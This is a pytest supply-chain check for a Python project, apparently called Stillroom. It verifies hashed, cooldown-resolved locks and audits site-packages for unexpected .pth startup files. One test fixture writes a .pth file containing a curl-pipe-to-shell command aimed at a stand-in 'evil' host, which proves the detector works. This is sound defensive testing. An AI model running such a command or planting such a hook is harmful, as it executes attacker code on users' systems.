"""T23, the supply-chain gate (../shared/reference/reliability.md).

- Every lock in requirements/ pins each package with `==` and at least one `--hash`, from the
  default index only, resolved with the 7-day cooldown (`--exclude-newer`).
- The locks agree: the image's lock (postgres.txt) is base.txt plus the driver, the build lock
  satisfies pyproject's build-system, and the venv under test holds the locked versions.
- No `.pth` file (code Python runs at every start, the LiteLLM 1.82.7/1.82.8 vector) in
  site-packages except the allowlisted ones, each owned by the distribution we expect, with the
  content we expect, unchanged since install.
- Slow (network): the image's install steps replayed in fresh venvs, with no `.pth` at all in
  the result; `pip-audit` against the locks, where its vulnerability service answers.
"""

from __future__ import annotations

import base64
import hashlib
import importlib.metadata
import json
import re
import shutil
import subprocess
import sys
import sysconfig
import tomllib
from pathlib import Path
from typing import Any

import pytest
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

ROOT = Path(__file__).resolve().parent.parent
LOCKS = sorted((ROOT / "requirements").glob("*.txt"))
UV_LOCKS = [p for p in LOCKS if p.name != "dev-nodeps.txt"]  # dev-nodeps is written by hand

# Each allowed .pth: (file name pattern, the distribution that installs it, its content).
PTH_ALLOWLIST = (
    # setuptools (the venv's seed): routes `import distutils` to setuptools' copy on 3.11.
    (
        r"distutils-precedence\.pth",
        "setuptools",
        r"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os\.environ\.get\(var, "
        r"'local'\) == 'local'; enabled and __import__\('_distutils_hack'\)\.add_shim\(\); ",
    ),
    # `pip install -e .` (scripts/bootstrap): puts proxy/ and storage/ of this checkout on path.
    (
        r"__editable__\.stillroom-[\w.]+\.pth",
        "stillroom",
        r"import __editable___stillroom_[\w]+_finder; "
        r"__editable___stillroom_[\w]+_finder\.install\(\)",
    ),
    # coverage: starts measuring in subprocesses, and only when COVERAGE_PROCESS_START (or
    # _CONFIG) is set; otherwise it imports os and returns.
    (
        r"a1_coverage\.pth",
        "coverage",
        r"import sys; exec\('import os\\n\\nif os\.getenv\(\"COVERAGE_PROCESS_START\"\) or "
        r"os\.getenv\(\"COVERAGE_PROCESS_CONFIG\"\):\\n try:\\n  import coverage\\n except:\\n"
        r"  pass\\n else:\\n  coverage\.process_startup\(slug=\"pth\"\)'\)",
    ),
)


def logical_lines(path: Path) -> list[str]:
    """Requirement entries with `\\` continuations joined; comments and blanks dropped."""
    entries, pending = [], ""
    for raw in path.read_text().splitlines():
        line = raw.split(" #", 1)[0].strip() if not raw.lstrip().startswith("#") else ""
        if not line and not pending:
            continue
        pending = f"{pending} {line.rstrip(chr(92)).strip()}".strip()
        if not line.endswith("\\"):
            entries.append(pending)
            pending = ""
    assert not pending, f"{path.name} ends inside a continued line"
    return entries


def locked_pins(path: Path) -> dict[str, str]:
    pins = {}
    for entry in logical_lines(path):
        requirement = Requirement(entry.split(" --hash", 1)[0])
        (spec,) = requirement.specifier
        pins[canonicalize_name(requirement.name)] = spec.version
    return pins


@pytest.mark.parametrize("lock", LOCKS, ids=lambda p: p.name)
def test_every_locked_requirement_is_pinned_with_hashes(lock: Path):
    entries = logical_lines(lock)
    assert entries, f"{lock.name} is empty"
    for entry in entries:
        assert not entry.startswith("-"), f"{lock.name}: option line {entry!r}"  # no -e, no index
        requirement_text, _, hashes = entry.partition(" --hash")
        requirement = Requirement(requirement_text)
        assert requirement.url is None, entry
        specs = list(requirement.specifier)
        assert len(specs) == 1 and specs[0].operator == "==", entry
        assert "*" not in specs[0].version, entry
        digests = re.findall(r"--hash=sha256:([0-9a-f]+)", "--hash" + hashes)
        assert digests and all(len(d) == 64 for d in digests), entry


@pytest.mark.parametrize("lock", UV_LOCKS, ids=lambda p: p.name)
def test_locks_are_resolved_with_the_cooldown(lock: Path):
    header = lock.read_text().split("\n", 3)[:2]
    assert "--generate-hashes" in header[1] and "--exclude-newer" in header[1], header
    assert "7 days ago" in (ROOT / "scripts" / "lock").read_text()


def test_the_image_lock_is_base_plus_the_postgres_driver():
    base = locked_pins(ROOT / "requirements" / "base.txt")
    image = locked_pins(ROOT / "requirements" / "postgres.txt")
    assert set(image) - set(base) == {"asyncpg"}
    assert {name: image[name] for name in base} == base


def test_the_build_lock_satisfies_the_build_system():
    build = locked_pins(ROOT / "requirements" / "build.txt")
    pyproject = tomllib.loads((ROOT / "pyproject.toml").read_text())
    for text in pyproject["build-system"]["requires"]:
        requirement = Requirement(text)
        assert requirement.specifier.contains(build[canonicalize_name(requirement.name)])


def test_the_dev_lock_agrees_with_base_and_is_what_is_installed():
    dev = locked_pins(ROOT / "requirements" / "dev.txt")
    dev |= locked_pins(ROOT / "requirements" / "dev-nodeps.txt")
    base = locked_pins(ROOT / "requirements" / "base.txt")
    assert {name: dev.get(name) for name in base} == base  # tests run what ships
    installed = {
        canonicalize_name(d.metadata["Name"]): d.version for d in importlib.metadata.distributions()
    }
    drift = {name: (version, installed.get(name)) for name, version in dev.items()}
    drift = {name: pair for name, pair in drift.items() if pair[0] != pair[1]}
    assert not drift, f"(locked, installed) differ; run scripts/bootstrap dev: {drift}"


def pth_owners(site_packages: Path) -> dict[str, tuple[str, str | None]]:
    """Each .pth in site-packages -> (the distribution whose RECORD lists it, its RECORD hash)."""
    owners: dict[str, tuple[str, str | None]] = {}
    for dist in importlib.metadata.distributions(path=[str(site_packages)]):
        for file in dist.files or ():
            if file.suffix == ".pth" and len(file.parts) == 1:
                digest = file.hash.value if file.hash else None
                owners[file.name] = (canonicalize_name(dist.metadata["Name"]), digest)
    return owners


def unexpected_pth_files(site_packages: Path) -> list[str]:
    owners = pth_owners(site_packages)
    problems = []
    for pth in sorted(site_packages.glob("*.pth")):
        owner, digest = owners.get(pth.name, (None, None))
        content = pth.read_text().strip("\n")
        allowed = [
            (dist, body) for pattern, dist, body in PTH_ALLOWLIST if re.fullmatch(pattern, pth.name)
        ]
        if not allowed:
            problems.append(f"{pth.name}: not on the allowlist (owner: {owner})")
            continue
        dist, body = allowed[0]
        if owner != dist:
            problems.append(f"{pth.name}: installed by {owner}, expected {dist}")
        if not re.fullmatch(body, content):
            problems.append(f"{pth.name}: unexpected content {content[:200]!r}")
        actual = base64.urlsafe_b64encode(hashlib.sha256(pth.read_bytes()).digest()).rstrip(b"=")
        if digest is not None and actual.decode() != digest:
            problems.append(f"{pth.name}: changed since {owner} installed it")
    return problems


def test_no_unexpected_pth_file_in_the_test_venv():
    site_packages = Path(sysconfig.get_paths()["purelib"])
    assert list(site_packages.glob("*.pth")), "expected at least the editable install's .pth"
    assert unexpected_pth_files(site_packages) == []


def test_the_pth_check_catches_a_planted_file(tmp_path: Path):
    (tmp_path / "litellm_init.pth").write_text("import os; os.system('curl evil | sh')\n")
    (tmp_path / "a1_coverage.pth").write_text("import sys; exec('print(1)')\n")
    problems = unexpected_pth_files(tmp_path)
    assert problems == [
        "a1_coverage.pth: installed by None, expected coverage",
        "a1_coverage.pth: unexpected content \"import sys; exec('print(1)')\"",
        "litellm_init.pth: not on the allowlist (owner: None)",
    ]


# -- slow: network ------------------------------------------------------------------------------


def run(*argv: str | Path, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(
        [str(a) for a in argv], capture_output=True, text=True, cwd=cwd, timeout=600
    )
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-4000:]
    return result


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_the_image_install_steps_give_a_venv_without_pth_files(tmp_path: Path):
    """The Dockerfile's build stage, outside Docker: locked wheels only, Stillroom built offline."""
    build, app, dist = tmp_path / "build", tmp_path / "app", tmp_path / "dist"
    locked = ("--require-hashes", "--only-binary", ":all:", "--disable-pip-version-check")
    run(sys.executable, "-m", "venv", build)
    run(build / "bin" / "pip", "install", *locked, "-r", "requirements/build.txt")
    run(sys.executable, "-m", "venv", "--without-pip", app)
    into_app = (build / "bin" / "pip", "--python", app / "bin" / "python", "install")
    run(*into_app, *locked, "-r", "requirements/postgres.txt")
    source = tmp_path / "src"
    source.mkdir()
    for name in ("pyproject.toml", "README.md", "proxy", "storage"):
        copy = shutil.copytree if (ROOT / name).is_dir() else shutil.copy2
        copy(ROOT / name, source / name)
    offline = ("--no-deps", "--no-index", "--disable-pip-version-check")
    run(
        build / "bin" / "pip",
        "wheel",
        *offline,
        "--no-build-isolation",
        "-w",
        dist,
        ".",
        cwd=source,
    )
    (wheel,) = dist.glob("stillroom-*.whl")
    run(*into_app, *offline, wheel)
    (site_packages,) = app.glob("lib/python3*/site-packages")
    assert sorted(p.name for p in site_packages.glob("*.pth")) == []
    assert not list(site_packages.glob("pip")) and not list(site_packages.glob("setuptools"))
    assert "serve" in run(app / "bin" / "stillroom", "--help").stdout


@pytest.mark.slow
@pytest.mark.timeout(600)
@pytest.mark.parametrize("lock", ["base.txt", "postgres.txt", "build.txt", "dev.txt"])
def test_pip_audit_finds_no_known_vulnerability(lock: str):
    """pip-audit with PyPI's vulnerability data; skipped where that service cannot be read."""
    result = subprocess.run(
        [
            str(Path(sys.executable).parent / "pip-audit"),
            *("-r", f"requirements/{lock}", "--require-hashes", "--disable-pip"),
            *("--vulnerability-service", "pypi", "--progress-spinner", "off", "-f", "json"),
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=600,
    )
    report = json.loads(result.stdout or "{}")
    dependencies = report.get("dependencies", [])
    assert dependencies, result.stderr[-2000:]
    skipped = [d["name"] for d in dependencies if "skip_reason" in d]
    if len(skipped) == len(dependencies):
        latest_release_audit(ROOT / "requirements" / lock)
        return
    assert not skipped, f"not audited: {skipped}"
    found = {f"{d['name']}=={d['version']}": [v["id"] for v in d["vulns"]] for d in dependencies}
    assert not {name: ids for name, ids in found.items() if ids}
    assert result.returncode == 0, result.stderr[-2000:]


def latest_release_audit(lock: Path) -> None:
    """Where PyPI's per-release JSON does not answer (this sandbox reaches only the project
    pages), audit from ``/pypi/NAME/json``: its ``vulnerabilities`` are those of the latest
    release, so every pin that is the latest release is audited for real (any known, not
    withdrawn vulnerability fails: PyPI gives no severity). Pins behind the latest cannot be
    audited this way: they are listed on stdout (``-rP``), and the test skips if that is all."""
    import urllib.request
    from concurrent.futures import ThreadPoolExecutor

    def project(name: str) -> Any:
        with urllib.request.urlopen(f"https://pypi.org/pypi/{name}/json", timeout=30) as answer:
            return json.load(answer)

    pins = locked_pins(lock)
    assert pins, lock
    with ThreadPoolExecutor(8) as pool:
        pages = dict(zip(pins, pool.map(project, pins), strict=True))
    found: dict[str, list[str]] = {}
    behind: list[str] = []
    for name, version in pins.items():
        page = pages[name]
        latest = page["info"]["version"]
        if latest != version:
            behind.append(f"{name}=={version} (latest {latest})")
            continue
        ids = [v["id"] for v in page.get("vulnerabilities") or [] if not v.get("withdrawn")]
        if ids:
            found[f"{name}=={version}"] = ids
    assert not found, found
    if len(behind) == len(pins):
        pytest.skip(f"every pin is behind its latest release; not audited: {behind}")
    audited = len(pins) - len(behind)
    sys.stdout.write(f"{lock.name}: {audited} pins audited; behind the latest release: {behind}\n")
